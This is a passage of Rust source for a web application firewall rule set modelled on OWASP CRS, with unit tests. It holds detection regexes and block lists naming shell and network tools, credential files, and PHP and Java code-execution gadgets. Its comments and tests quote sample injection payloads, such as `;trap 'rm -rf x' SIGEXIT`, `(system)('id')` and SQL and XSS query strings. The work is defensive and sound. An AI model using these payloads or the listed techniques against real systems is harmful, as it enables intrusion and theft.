            regex_in(
                fields(),
                r#"\{[\w-]*,[\w,-]*\}|~[+-](?:$|\d+\b)|(?i)\balias\s+(?:[+-][a-z]*[+-]?\s+)*["']?[\w-]+["']?\s*=|\$\{?(?:SHELL|BASH|0)\}?\s+-c\b|\b(?:usr/)?(?:local/)?s?bin/(?:ba|da|z|k|c|tc|fi)?sh\b|\b(?:usr/)?(?:local/)?s?bin/(?:busybox|nc|ncat|netcat|socat|curl|wget|python[\d.]*|perl|ruby|php|node|lua|tclsh|telnet|ssh|scp|sudo|su|visudo|crontab|chmod|chown|ansible\S*|chef\S*|cscli|powershell|pwsh)\b|/(?:usr/)?(?:local/)?s?bin/ab\b"#,
                &[UrlDecodeUni, RemoveNulls],
            ),
        ),
        // Unix commands no shop's text names (`visudo`, `ansible-vault`, `python3.10`,
        // `bsdtar`...) after a separator or behind a command that runs another (`time`,
        // `nohup`, `strace`), maybe after an empty variable (`$u wget`); at the very
        // start of a value, only with something after them (a lone `lastlog` or `uname`
        // is a field's name). Compilers, debuggers and `curl` only with an option or a
        // here string after them (`gdb -nx`, `c99 -wrapper`, `irb<<<`); a shell only
        // with `-c`, after a separator or behind `time` and the like; `trap` with a
        // signal (`;trap 'rm -rf x' SIGEXIT`), and `cd` into the system's directories
        // (`cd /;cd etc;`, whatever follows; a bare name such as `etc` only before a
        // separator, so that "tapes & CD etc." is text). CRS 932230, 932235, 932250,
        // 932260.
        (
            "SC-CMD-010",
            regex_in(
                inputs(),
                r#"(?i)(?:(?:[;&|`\n\r]|\$\(|\|\||&&)\s*(?:\$\{?\w*\}?\s+)*(?:(?:time|nohup|strace|ltrace|nice|sudo|doas|exec|xargs|env|timeout(?:\s+\d+)?)\s+)*|^\s*(?:\$\{?\w*\}?\s+)*(?:(?:time|nohup|strace|ltrace|nice|sudo|doas|exec|xargs|env|timeout(?:\s+\d+)?)\s+)+)(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:(?:ansible(?:-[a-z]+)?|chef-(?:client|run|shell|solo|vault|apply|zero)|visudo|cscli|busybox|bsdtar|cpulimit|base32|lastlog(?:in)?|rmt-(?:tar|dump)|ifconfig|whoami|uname|nslookup|netstat|nmap|socat|ncat|netcat|wget|xxd|mkfifo|crontab|useradd|python[23]\.\d+|strace|ltrace|aa-(?:disable|enforce|complain|status|exec))(?:$|[\s;|&<>()'",])|(?:c89|c99|gcc[\d.]*|gdb|perf|flock|rmt|curl|irb)(?:\s+-|\s*<<<)|(?:ba|z|k|da)?sh\s+-c\b|trap\s+\S.*\bsig(?:exit|int|term|hup|quit|kill|usr[12]|alrm|chld|pipe)\b|cd\s+(?:(?:/|~|\.\.?/)[^\s;|&]*\s*(?:[;&|`\n\r]|$)|(?:etc|tmp|var|usr|home|root|proc|dev|bin|opt|srv|boot|sys)\b(?:/[^\s;|&]*)?\s*[;&|`\n\r]))|^\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:(?:ansible(?:-[a-z]+)?|chef-(?:client|run|shell|solo|vault|apply|zero)|visudo|cscli|busybox|bsdtar|cpulimit|base32|lastlog(?:in)?|rmt-(?:tar|dump)|ifconfig|whoami|uname|nslookup|netstat|nmap|socat|ncat|netcat|wget|xxd|mkfifo|crontab|useradd|python[23]\.\d+|strace|ltrace|aa-(?:disable|enforce|complain|status|exec))(?:\s+\S|\s*[\n;|&<>()]|\s+$)|(?:c89|c99|gcc[\d.]*|gdb|perf|flock|rmt|curl|irb)(?:\s+-|\s*<<<))"#,
                &[UrlDecodeUni, RemoveNulls, RemoveShellQuotes],
            ),
        ),
        // An upload named as a server's or a user's configuration, or a kernel file
        // (CRS 932180), read without white space (`wp-config. php`).
        (
            "SC-CMD-011",
            regex_in(
                upload_names(),
                r"(?i)(?:^|[/\\])(?:\.htaccess|\.htpasswd|\.htdigest|\.user\.ini|php\.ini|web\.config|wp-config|settings\.(?:php|py)|local_settings\.py|config\.(?:php|ya?ml|json|inc|ini|xml)|configuration\.php|local\.xml|(?:parameters|database|secrets)\.ya?ml|\.env(?:\.\w+)?$|\.boto|\.s3cfg|\.aws/|\.git/|\.gitconfig|\.svn/|\.hg/|\.bash_(?:history|profile|logout)|\.bashrc|\.zshrc|\.profile$|\.ssh/|authorized_keys|id_(?:rsa|dsa|ecdsa|ed25519)\b|known_hosts|\.netrc|\.npmrc|\.pgpass|\.my\.cnf|\.mysql_history|\.viminfo|(?:acpi|mtrr|buddyinfo|zoneinfo)$)",
                &[RemoveWhitespace],
            ),
        ),
        // Shell syntax that URL decoding would spoil in values already decoded once
        // (a `+` read as a space): the directory stack (`~+`, `~-2`; CRS 932270), an
        // alias with its options (`alias +m a=b`, 932175), bash's history (`!-1!-2`,
        // 932330) and arithmetic (`$[2+2]`, 932130), braces listing words in XML
        // entities (932280); and Shellshock's function definition at a value's or a
        // header's start (`() {`, 932170, 932171).
        (
            "SC-CMD-012",
            Statement::Or(vec![
                regex_in(
                    inputs(),
                    r#"~[+-](?:$|\d+\b)|(?i)\balias\s+(?:[+-][a-z]*[+-]?\s+)*["']?[\w.-]+["']?\s*=|!-\d+!-\d+|\$\[[^\]]*\]|\{[\w-]*,[\w,-]*\}"#,
                    &[RemoveNulls, HtmlEntityDecode],
                ),
                regex_in(
                    [inputs(), vec![Field::AllHeaders]].concat(),
                    r"^\s*\(\s*\)\s*\{",
                    &[UrlDecodeUni],
                ),
            ]),
        ),
        // A command that needs no arguments at a value's end or before another separator
        // (CRS 932340): after `;`, `|`, a backquote, `||`, `&&` or a substitution
        // (`a; hostname`, `a|reboot`, `a;host'name;`, `$( whoami )`); one that is also a
        // word ([`NO_ARGUMENTS_WORDS`]) right after `;` or a backquote only; or alone
        // after a leading backslash (`\ls`). Not after `=`, a lone `&`, a space or a
        // line: "page=last" in a Referer, "headset & ps", "tea | set", "cups; set" and
        // a message signed "PS" are a shop's text.
        (
            "SC-CMD-013",
            Statement::Or(vec![
                regex_in(
                    fields(),
                    &format!(
                        r#"(?i)(?:(?:[;|`]|\|\||&&|\$\(\(?|\$[\[{{]|[<>]\()\s*(?:[\w.-]*/)*(?:{NO_ARGUMENTS})|(?:[;`]|(?:\|\||&&|\$\(\(?|\$[\[{{]|[<>]\()\s*)(?:[\w.-]*/)*(?:{NO_ARGUMENTS_WORDS}))\s*(?:[;&|#)`]|$)"#
                    ),
                    &[UrlDecodeUni, RemoveNulls, RemoveShellQuotes],
                ),
                regex_in(
                    fields(),
                    &format!(r#"(?i)^\\(?:{NO_ARGUMENTS}|{NO_ARGUMENTS_WORDS})["']?\s*$"#),
                    &[UrlDecodeUni, RemoveNulls],
                ),
            ]),
        ),
    ]
}

fn php() -> Vec<(&'static str, Statement)> {
    let fields = || {
        vec![
            Field::AllQueryArguments,
            Field::QueryArgumentNames,
            Field::BodyFields,
            Field::Cookies,
            Field::UriPath,
        ]
    };
    vec![
        (
            "SC-PHP-001",
            over(fields(), |field| {
                any_of(
                    field,
                    &[
                        "<?php",
                        "<?=",
                        "php://input",
                        "php://filter",
                        "php://stdin",
                        "php://memory",
                        "php://stdout",
                        "php://stderr",
                        "php://output",
                        "php://temp",
                        "php://fd",
                        "phar://",
                        "zlib://",
                        "glob://",
                        "expect://",
                        "zip://",
                        "bzip2://",
                        "ogg://",
                        "rar://",
                        "ssh2.shell://",
                        "ssh2.exec://",
                        "ssh2.tunnel://",
                        "ssh2.sftp://",
                        "ssh2.scp://",
                        "data://text/plain",
                    ],
                    &[UrlDecodeUni],
                )
            }),
        ),
        (
            "SC-PHP-002",
            regex_in(
                fields(),
                &format!(
                    r#"(?i)\b(?:{PHP_EXECUTING})(?:[^\S ]\s*|\s\s+)?\(|\b(?:{PHP_EXECUTING}) \(\s*(?:[^\s\w]|\w+\s*\(|\))|\b(?:include|require)(?:_once)?\s*\(?\s*['\x22]?(?:https?|ftp|php|data)://|\bO:\d+:\x22[A-Za-z_\\][\w\\]*\x22:\d+:\{{|\b(?:allow_url_include|allow_url_fopen|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode)\s*="#
                ),
                &[UrlDecodeUni, ReplaceComments, RemoveNulls],
            ),
        ),
        // PHP's superglobals named (`$_SERVER['x']`, `$GLOBALS`; CRS 933130), and a
        // function called through a variable. (Not a PHP file named: a PHP shop's pages
        // end so, and its back office sends their paths, `_wp_http_referer=/x.php`.)
        (
            "SC-PHP-003",
            regex_in(
                fields(),
                r"\$_(?:SERVER|COOKIE|GET|POST|REQUEST|FILES|ENV|SESSION)\b|\$GLOBALS\b|\$HTTP_[A-Z_]+_VARS\b|\$+[A-Za-z_\x7f-\xff][\w\x7f-\xff]*\s*(?:\[[^\]]{0,40}\]\s*|\{[^}]{0,40}\}\s*)*\(|\$\{[^}]{1,80}\}\s*\(",
                &[UrlDecodeUni, ReplaceComments, RemoveNulls],
            ),
        ),
        // A PHP script uploaded: a multipart file name, or the file name headers upload
        // scripts read (CRS 933110), read without white space (`photo. php`).
        (
            "SC-PHP-004",
            regex_in(
                upload_names(),
                r"(?i)\.ph(?:p\d*|tml|ar|ps|t|pt)\.*$",
                &[UrlDecodeUni, RemoveWhitespace],
            ),
        ),
        // PHP functions an attack calls, named anywhere in a value that also has a
        // parenthesis (CRS 933150), or called: the name, then spaces, comments or quotes,
        // then an argument list (CRS 933160). Names that are also English words (`file`,
        // `exp`, `ord`...) count as calls only with an empty list or one opening with a
        // quote, a variable or a number, so that "file (pdf)" is text.
        (
            "SC-PHP-005",
            regex_in(
                fields(),
                &format!(
                    r#"(?is)(?:{PHP_RISKY_FUNCTIONS}).*[()]|[()].*(?:{PHP_RISKY_FUNCTIONS})|\b\(?["']*(?:{PHP_CALLED})(?:(?:(?:#|//)[^\r\n]*[\r\n]|")*["']*\)?|(?:\s*(?:#|//)[^\r\n]*[\r\n]|[^\S ]|\s\s){PHP_CALL_GAP})\([^)]*\)|\b\(?["']*(?:{PHP_CALLED}){PHP_CALL_GAP}\(\s*(?:\)|(?:["'$\d`@\[(]|\w+\s*\()[^)]*\))|\b\(?["']*(?:chr|exp|file|glob|ord|prev|stat){PHP_CALL_GAP}\(\s*(?:\)|["'$\d])"#
                ),
                &[UrlDecodeUni, ReplaceComments, RemoveNulls],
            ),
        ),
        // PHP's own markup: an opening tag with a space or `=` after it, or at the end of
        // the value, and the `[php]` and `{php}` tags of templates, in the inputs and the
        // headers (CRS 933100).
        (
            "SC-PHP-006",
            regex_in(
                [fields(), vec![Field::AllHeaders]].concat(),
                r"(?i)<\?(?:php\s|[\s=]|$)|\[[/\\]?php\]|\{/?php\}",
                &[UrlDecodeUni, RemoveNulls],
            ),
        ),
        // PHP configuration set from a request (CRS 933120).
        (
            "SC-PHP-007",
            regex_in(
                fields(),
                r"(?i)\b(?:opcache\.\w+|mbstring\.\w+|pcre\.\w+|zend\.\w+|engine|extension|precision|serialize_precision|smtp(?:_port)?|unserialize_max_depth|allow_url_(?:fopen|include)|auto_(?:append|prepend)_file|disable_(?:functions|classes)|open_basedir|safe_mode(?:_exec_dir)?|extension_dir|zend_extension|memory_limit|max_execution_time|max_input_time|post_max_size|upload_max_filesize|upload_tmp_dir|file_uploads|register_globals|display_(?:startup_)?errors|error_(?:log|reporting)|log_errors|html_errors|include_path|short_open_tag|expose_php|enable_dl|magic_quotes_(?:gpc|runtime)|sendmail_(?:path|from)|mail\.add_x_header|session\.(?:save_path|save_handler|serialize_handler|use_trans_sid|upload_progress\.enabled)|user_ini\.filename|cgi\.force_redirect|doc_root|user_dir|assert\.(?:active|callback)|phar\.readonly|variables_order|default_charset|output_handler|unserialize_callback_func)\s*=",
                &[UrlDecodeUni, ReplaceComments, RemoveNulls],
            ),
        ),
        // A function called by a name built at run time: `(system)('id')` (the brackets
        // side by side, or with a comment between: text puts a space there),
        // `"sys"."tem"(`, `"\x73y\x73tem"(`, `(string)"system"(`, `[system][0](ls)`,
        // `{0}('ls')` (maybe `{/* a comment */0}`), and a
        // variable variable `${'name'}` (CRS 933210, 933135), and a function called
        // through a variable, maybe indexed and commented (`$a[1]['d'] /**/ (17)`; CRS
        // 933180).
        (
            "SC-PHP-008",
            regex_in(
                fields(),
                r#"\((?:[^()]|\([^()]*\))*\)(?:["'][\w-]+["'])?(?:\s*/\*[^*]*\*/\s*)?\(|\[\s*\d+\s*\]\s*\}?\s*\(|\{\s*(?:/\*[^*]*\*/\s*)*\d+\s*\}\s*\(|["'](?:[\w-]|\\x[0-9a-fA-F]{2})*\\x[0-9a-fA-F]{2}(?:[\w-]|\\x[0-9a-fA-F]{2})*["']\s*\(|(?i)\(\s*string\s*\)\s*["'\w.{}\[\]\s]+\(|["'][\w-]*["']\s*\.\s*["'][\w-]*["'](?:\s*\.\s*["'][\w-]*["'])*\s*\(|\$\s*\{\s*\S[^{}]*\}|\$+[a-zA-Z_\x7f-\xff][\w\x7f-\xff]*(?:\s|\[[^()]*\]|\{[^(){}]*\}|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*\("#,
                &[UrlDecodeUni, RemoveNulls],
            ),
        ),
        // A PHP session file uploaded, to be read back as a session (CRS 933220).
        (
            "SC-PHP-009",
            regex_in(
                upload_names(),
                r"(?i)(?:^|[/\\])sess_[,\-0-9a-z]{20,256}$",
                &[UrlDecodeUni],
            ),
        ),
    ]
}

/// The names of uploaded files: a multipart body's, and the headers upload scripts read.
fn upload_names() -> Vec<Field> {
    vec![
        Field::MultipartNames,
        header("x-filename"),
        header("x_filename"),
        header("x.filename"),
        header("x-file-name"),
    ]
}

/// PHP functions that run code, commands or files, which SC-PHP-002 looks for calls of:
/// the bracket right after the name, or after white space other than one space, with
/// anything between the brackets; after one space (as prose writes "the operating system
/// (if any)"), with code between them (a quote, a variable, another call, or nothing).
const PHP_EXECUTING: &str = "eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo|file_get_contents|file_put_contents|fopen|fwrite|readfile|show_source|highlight_file|create_function|call_user_func(?:_array)?|preg_replace|unserialize|move_uploaded_file|ini_set|putenv|escapeshellcmd|symlink";

/// PHP functions SC-PHP-005 looks for calls of (CRS 933160's): with anything between the
/// brackets when the bracket follows the name at once, or after a comment or white space
/// other than one space; after one space (as prose puts one between a word and a bracket:
/// "a heating system (gas or electric)"), only with code between them (a quote, a
/// variable, a number, another call, or nothing).
const PHP_CALLED: &str = "assert(?:_options)?|create_function|eval|exec|filegroup|fopen|fputs|image(?:gif|jpeg|png|wbmp|xbm)|is_a|intval|md5|mkdir|opendir|passthru|phpinfo|popen|printf|readfile|rtrim|strip_tags|substr|system|tmpfile|unlink|unpack|unserialize|usort";

/// What may come between a PHP function's name and its argument list: spaces, quotes,
/// comments to the end of a line, and a closing parenthesis (`(system)(...)`).
const PHP_CALL_GAP: &str = r#"(?:(?:#|//)[^\r\n]*[\r\n]|[\s"])*["']*\)?\s*"#;

/// PHP functions an attack reaches for and no text names (CRS 933150's list, as PHP's
/// manual names them).
const PHP_RISKY_FUNCTIONS: &str = "__halt_compiler|apache_child_terminate|array_(?:diff_u(?:assoc|key)|filter|intersect_u(?:assoc|key)|key_exists|map|push|reduce|shift|u(?:diff(?:_u?assoc)?|intersect(?:_u?assoc)?)|values)|base64_(?:de|en)code|bson_(?:de|en)code|bz(?:decompress|open)|call_user_func(?:_array)?|call_user_method(?:_array)?|class_exists|convert_uu(?:de|en)code|curl_(?:exec|file_create|init)|debug_backtrace|dirname|error_reporting|escapeshell(?:arg|cmd)|exif_(?:imagetype|read_data|tagname|thumbnail)|fclose|file_(?:exists|get_contents|put_contents)|finfo_open|f?sockopen|ftp_(?:connect|get|nb_get|nb_put|put)|function_exists|fwrite|get_(?:cfg_var|class(?:_methods|_vars)?|current_user|defined_(?:constants|functions|vars)|meta_tags)|getcwd|getenv|getimagesize|getlastmod|getmy(?:gid|inode|pid|uid)|gz(?:compress|decode|deflate|encode|file|inflate|open|read|uncompress|write)|hash_(?:file|hmac_file|update_file)|header_register_callback|hex2bin|highlight_file|html_entity_decode|htmlentities|htmlspecialchars(?:_decode)?|image2wbmp|imagecreatefrom(?:gif|jpeg|png|wbmp|xbm|xpm)|imagegd2?|include_once|ini_(?:get(?:_all)?|set)|invokeargs|iptcembed|is_(?:array|dir|executable|file|null|numeric|object|readable|writeable|writable)|iterator_apply|json_(?:de|en)code|mb_(?:eregi?(?:_replace)?|ereg_match|ereg_replace_callback|parse_str)|md5_file|method_exists|move_uploaded_file|mysql_query|number_format|ob_(?:clean|end_clean|end_flush|flush|get_clean|get_contents|get_flush|start)|odbc_(?:connect|exec|execute|result(?:_all)?)|parse_(?:ini_file|str|url)|pcntl_(?:exec|fork)|pfsockopen|pg_(?:connect|execute|prepare|query)|php_(?:strip_whitespace|uname)|phpversion|posix_(?:getcwd|getegid|geteuid|getgid|getlogin|getpwnam|getpwuid|getuid|kill|mkfifo|mknod|ttyname|uname)|preg_(?:match(?:_all)?|replace(?:_callback(?:_array)?)?|split)|print_r|proc_(?:close|get_status|nice|open|terminate)|putenv|rawurl(?:de|en)code|read_exif_data|readdir|readgzfile|reflectionfunction|register_(?:shutdown|tick)_function|rename_function|require_once|runkit_(?:constant_(?:add|redefine)|function_(?:add|copy|redefine|rename)|method_(?:add|copy|redefine|rename))|session_(?:set_save_handler|start)|set_(?:error_handler|exception_handler|include_path|magic_quotes_runtime)|setdefaultstub|settype|sha1_file|shell_exec|show_source|simplexml_load_(?:file|string)|socket_(?:connect|create)|spl_autoload_register|sqlite_(?:array_query|create_aggregate|create_function|exec|open|popen|query|single_query|unbuffered_query)|str_(?:replace|rot13)|stream_(?:context_create|socket_client)|strip(?:c?slashes)|strlen|strpos|strrev|strto(?:lower|time|upper)|sys_get_temp_dir|u[ak]sort|ucfirst|url(?:de|en)code|var_dump|wp_(?:remote_(?:fopen|get|head|post|request)|safe_remote_(?:get|head|post|request))|zlib_decode";

fn java() -> Vec<(&'static str, Statement)> {
    let fields = || {
        let mut fields = inputs();
        fields.push(Field::UriPath);
        fields.push(Field::AllHeaders);
        fields
    };
    vec![
        (
            "SC-JAVA-001",
            regex_in(
                fields(),
                r"(?i)java\.lang\.(?:runtime|processbuilder|system|class|reflect)|\.getruntime\s*\(|\.exec\s*\(|class\.module\.classloader|\bclassloader\b|javax\.script|org\.apache\.commons\.collections|com\.sun\.org\.apache|java\.io\.(?:file|objectinputstream)|\bognl\b|#_memberaccess|@java\.|\bjava\.net\.url\b|\bjndi:|\$\{\s*(?:class|script|runtime)",
                &[UrlDecodeUni, JsDecode, RemoveNulls],
            ),
        ),
        // Java class names and reflection in an input (CRS 944130, 944300).
        (
            "SC-JAVA-004",
            regex_in(
                fields(),
                r"\bjavax?\.[a-z]+\.[A-Za-z]|\b(?:getRuntime|getClass|forName|newInstance|ProcessBuilder|ObjectInputStream)\b|\borg\.(?:apache\.commons|omg\.CORBA|springframework\.(?:context|beans|expression)|codehaus\.groovy|mozilla\.javascript)\b|\bcom\.sun\.(?:jndi|org\.apache|rowset)\b|\bsun\.(?:misc|reflect)\.|(?i:\bjava\.[\w.]*(?:runtime|processbuilder)\b)",
                &[UrlDecodeUni, JsDecode],
            ),
        ),
        (
            "SC-JAVA-002",
            regex_in(
                fields(),
                r"(?i)\brequire\s*\(\s*['\x22](?:child_process|fs|net|vm|os)['\x22]\s*\)|\bprocess\.(?:mainmodule|binding|env)\b|\b__proto__\b|\bconstructor\s*(?:\[\s*['\x22]?|\]\s*\[\s*['\x22]?|\.\s*)prototype\b|\bchild_process\b|\.constructor\s*\(\s*['\x22]return",
                &[UrlDecodeUni, JsDecode],
            ),
        ),
        (
            "SC-JAVA-003",
            over(fields(), |field| {
                any_of(
                    field,
                    &[
                        "com.opensymphony.xwork2",
                        "org.apache.struts2",
                        "java.lang.",
                        "java.beans.",
                        "java.rmi.",
                        "java.util.prefs",
                        "javax.naming",
                        "javax.management",
                        "javax.script",
                        "sun.misc.",
                        "sun.reflect.",
                        "com.sun.jndi",
                        "com.sun.rowset",
                        "org.springframework.",
                        "org.codehaus.groovy",
                        "groovy.lang.",
                        "bsh.interpreter",
                        "org.mozilla.javascript",
                        "freemarker.template",
                        "org.apache.velocity",
                        "com.thoughtworks.xstream",
                        "org.yaml.snakeyaml",
                        "org.hibernate.",
                        "org.apache.xalan",
                        "org.apache.xbean",
                        "org.apache.commons.collections",
                        "org.apache.commons.beanutils",
                        "org.apache.commons.fileupload",
                        "org.apache.tomcat",
                        "org.apache.catalina",
                        "org.jboss.",
                        "net.sf.json",
                        "jdk.jshell",
                        "jdk.nashorn",
                        "com.mchange.v2",
                        "com.rometools",
                        "org.eclipse.jetty",
                        "weblogic.",
                        "processbuilder",
                        "clonetransformer",
                        "forclosure",
                        "instantiatefactory",
                        "instantiatetransformer",
                        "invokertransformer",
                        "prototypeclonefactory",
                        "prototypeserializationfactory",
                        "whileclosure",
                        "chainedtransformer",
                        "constanttransformer",
                        "lazymap",
                        "templatesimpl",
                        "jdbcrowsetimpl",
                        "xmldecoder",
                        "getruntime",
                        "getclassloader",
                        "classloader",
                        "rO0AB",
                        "aced0005",
                    ],
                    &[UrlDecodeUni, JsDecode, RemoveNulls],
                )
            }),
        ),
        // A JSP page uploaded: a multipart file name, or the file name headers upload
        // scripts read, spaces and dots after the extension included (CRS 944140).
        (
            "SC-JAVA-005",
            regex_in(upload_names(), r"(?i)\.\s*jspx?[\s.]*$", &[UrlDecodeUni]),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::Inspection;
    use http::HeaderMap;

    /// The default ACL's verdict on a GET with `query`, or a POST of `form`.
    fn verdict(query: Option<&str>, form: Option<&str>, user_agent: &str) -> crate::Verdict {
        let mut headers = HeaderMap::new();
        headers.insert("user-agent", user_agent.parse().expect("value"));
        headers.insert(
            "content-type",
            "application/x-www-form-urlencoded".parse().expect("value"),
        );
        let body = form.unwrap_or("").as_bytes();
        let method = if form.is_some() { "POST" } else { "GET" };
        judged(method, "/search", query, &headers, body)
    }

    /// `acl`'s verdict on a GET of `/search` with `query`.
    fn searched(acl: &WebAcl, headers: &HeaderMap, query: &str) -> crate::Verdict {
        let client = "127.0.0.1".parse().expect("address");
        acl.evaluate(&Inspection::new(
            "GET",
            "/search",
            Some(query),
            headers,
            b"",
            false,
            client,
        ))
    }

    /// The default ACL's verdict on a request.
    fn judged(
        method: &str,
        path: &str,
        query: Option<&str>,
        headers: &HeaderMap,
        body: &[u8],
    ) -> crate::Verdict {
        let client = "127.0.0.1".parse().expect("address");
        default_acl().evaluate(&Inspection::new(
            method, path, query, headers, body, false, client,
        ))
    }

    #[test]
    fn evaluations_on_one_thread_do_not_see_each_others_scans() {
        // Each evaluation's scan takes the buffers the thread's last one left (see
        // `statement::ScanBuffers`): what an injection matched, or another ACL's merge,
        // must not carry over.
        let strict = acl_with(
            Vec::new(),
            &Group::ALL,
            Sensitivity {
                paranoia: 4,
                anomaly_threshold: None,
            },
            &Overrides::default(),
        );
        let acls = [default_acl(), strict];
        let mut headers = HeaderMap::new();
        headers.insert("user-agent", "Mozilla/5.0".parse().expect("value"));
        let queries = [
            "q=1%27%20OR%20%271%27%3D%271",
            "q=red+wool+coat&page=2",
            "q=%3Cscript%3Ealert(1)%3C/script%3E",
            "q=shoes",
        ];
        let judge = |acl: &WebAcl, query: &str| {
            let verdict = searched(acl, &headers, query);
            (verdict.blocked, verdict.terminating_rule)
        };
        // Each request judged on a thread of its own, with no scan before it.
        let alone: Vec<Vec<(bool, Option<String>)>> = std::thread::scope(|threads| {
            let judge = &judge;
            acls.iter()
                .map(|acl| {
                    queries
                        .iter()
                        .map(|query| threads.spawn(move || judge(acl, query)))
                        .collect::<Vec<_>>()
                        .into_iter()
                        .map(|thread| thread.join().expect("judged"))
                        .collect()
                })
                .collect()
        });
        assert!(alone[0][0].0, "the injection is blocked");
        assert_eq!(alone[0][1], (false, None), "the search passes");
        // The same requests, both ACLs in turn, on this one thread, twice.
        for _ in 0..2 {
            for (at, query) in queries.iter().enumerate() {
                for (which, acl) in acls.iter().enumerate() {
                    assert_eq!(
                        judge(acl, query),
                        alone[which][at],
                        "{query} by ACL {which}"
                    );
                }
            }
        }
    }

    #[test]
    fn paranoia_levels_add_rules_and_scores_add_up() {
        let inspection = |query: &'static str, accept: bool| {
            let mut headers = HeaderMap::new();
            headers.insert("user-agent", "Mozilla/5.0".parse().expect("value"));
            if accept {
                headers.insert("accept", "text/html".parse().expect("value"));
            }
            (headers, query)
        };
        let acl = |paranoia, anomaly_threshold| {
            acl_with(
                Vec::new(),
                &Group::ALL,
                Sensitivity {
                    paranoia,
                    anomaly_threshold,
                },
                &Overrides::default(),
            )
        };
        let judge = |acl: &WebAcl, (headers, query): (HeaderMap, &str)| {
            let verdict = searched(acl, &headers, query);
            (verdict.blocked, verdict.score)
        };
        // Every level's expressions compile; each level has more rules.
        let counts: Vec<usize> = (1..=4)
            .map(|level| acl(level, None).rules().len())
            .collect();
        assert!(
            counts.windows(2).all(|pair| pair[0] < pair[1]),
            "{counts:?}"
        );

        // A search with a few quotes and brackets passes at level 1 and 2; at level 4 its
        // characters block it by themselves.
        let search = "q=women%27s+shoes+(red)";
        assert_eq!(judge(&acl(1, None), inspection(search, true)), (false, 0));
        assert!(!judge(&acl(2, Some(5)), inspection(search, true)).0);
        assert!(judge(&acl(4, None), inspection(search, true)).0);

        // No Accept header is a notice (2): alone it does not reach 5, with a warning (a
        // chained command, 3) it does.
        assert_eq!(
            judge(&acl(2, Some(5)), inspection("q=shoes", false)),
            (false, 2)
        );
        // Without scoring, a weak sign only counts.
        assert!(!judge(&acl(2, None), inspection("q=shoes", false)).0);
        assert_eq!(
            judge(&acl(2, Some(5)), inspection("q=rock%7Croll", true)),
            (false, 3)
        );
        assert_eq!(
            judge(&acl(2, Some(5)), inspection("q=rock%7Croll", false)),
            (true, 5)
        );
        // A critical finding is 5 by itself, as each rule blocking at level 1.
        let injection = "q=1%27%20OR%20%271%27%3D%271";
        assert!(judge(&acl(1, Some(5)), inspection(injection, true)).0);
        assert!(judge(&acl(1, None), inspection(injection, true)).0);
    }

    /// A managed group's settings, as AWS WAF's managed rule group statement's: a scope-down
    /// statement it runs behind, every rule counting, one rule's action changed.
    #[test]
    fn a_managed_group_may_be_scoped_down_counted_or_have_rules_overridden() {
        use super::GroupOverride;
        let injection = "q=1%27%20OR%20%271%27%3D%271";
        let judge = |acl: &WebAcl, path: &str| {
            let headers = HeaderMap::new();
            acl.evaluate(&Inspection::new(
                "GET",
                path,
                Some(injection),
                &headers,
                b"",
                false,
                "127.0.0.1".parse().expect("address"),
            ))
        };
        let acl = |tuned: GroupOverride| {
            acl_with(
                Vec::new(),
                &[Group::Sqli],
                Sensitivity::default(),
                &Overrides {
                    groups: vec![(Group::Sqli, tuned)],
                    ..Overrides::default()
                },
            )
        };
        let plain = judge(&acl(GroupOverride::default()), "/api/orders");
        assert!(plain.blocked);
        let blocking = plain.terminating_rule.clone().expect("a managed rule");
        // Scoped down to everything but `/search`: the group reads no search at all.
        let scoped = acl(GroupOverride {
            scope_down: Some(Statement::Not(Box::new(Statement::ByteMatch {
                field: Field::UriPath,
                position: crate::statement::Position::StartsWith,
                search: b"/search".to_vec(),
                transforms: Vec::new(),
            }))),
            ..GroupOverride::default()
        });
        let search = judge(&scoped, "/search");
        assert!(!search.blocked && search.matches.is_empty(), "{search:?}");
        assert!(judge(&scoped, "/api/orders").blocked);
        // Every rule counting: matched, logged, not blocking.
        let counting = judge(
            &acl(GroupOverride {
                count_all: true,
                ..GroupOverride::default()
            }),
            "/api/orders",
        );
        assert!(!counting.blocked);
        assert!(
            counting
                .matches
                .iter()
                .all(|(_, action, _)| *action == RuleAction::Count)
                && !counting.matches.is_empty()
        );
        // The blocking rule told to count, the others as they were.
        let overridden = judge(
            &acl(GroupOverride {
                rule_actions: vec![(blocking.clone(), RuleAction::Count)],
                ..GroupOverride::default()
            }),
            "/api/orders",
        );
        assert!(
            overridden
                .matches
                .iter()
                .any(|(id, action, _)| *id == blocking && *action == RuleAction::Count),
            "{overridden:?}"
        );
        assert_ne!(
            overridden.terminating_rule.as_deref(),
            Some(blocking.as_str())
        );
    }

    #[test]
    fn a_counted_managed_rule_logs_and_labels_and_a_later_rule_acts_on_its_label() {
        // A shop whose search takes text that reads like SQL to SC-SQLI-003 (it sells
        // books on SQL): the rule only counts, and the operator's rule after the managed
        // groups blocks what it finds outside `/search`.
        let label = "securecart:managed:sql-injection:SC-SQLI-003";
        let elsewhere = Rule {
            id: "sqli-outside-search".to_owned(),
            priority: 600,
            statement: Statement::And(vec![
                Statement::Label(label.to_owned()),
                Statement::Not(Box::new(Statement::ByteMatch {
                    field: Field::UriPath,
                    position: crate::statement::Position::StartsWith,
                    search: b"/search".to_vec(),
                    transforms: Vec::new(),
                })),
            ]),
            action: RuleAction::Block,
            labels: Vec::new(),
            response: None,
            score: 0,
        };
        let early = Rule {
            id: "early".to_owned(),
            priority: 10,
            statement: Statement::Label(label.to_owned()),
            action: RuleAction::Block,
            labels: Vec::new(),
            response: None,
            score: 0,
        };
        let overrides = Overrides {
            managed_priority: Some(500),
            count: vec!["SC-SQLI-003".to_owned()],
            default_block: false,
            default_response: None,
            groups: Vec::new(),
        };
        let acl = acl_with(
            vec![elsewhere, early],
            &[Group::Sqli],
            Sensitivity::default(),
            &overrides,
        );
        let ids: Vec<&str> = acl.rules().iter().map(|rule| rule.id.as_str()).collect();
        assert_eq!(ids.first(), Some(&"early"), "below 500: before the groups");
        assert_eq!(ids.last(), Some(&"sqli-outside-search"), "from 500: after");
        // A search for a book on SQL, which libinjection does not flag.
        let query = "q=book%3A+select+name+from+products+where+price+%3E+10";
        let judge = |acl: &WebAcl, path: &str| {
            let headers = HeaderMap::new();
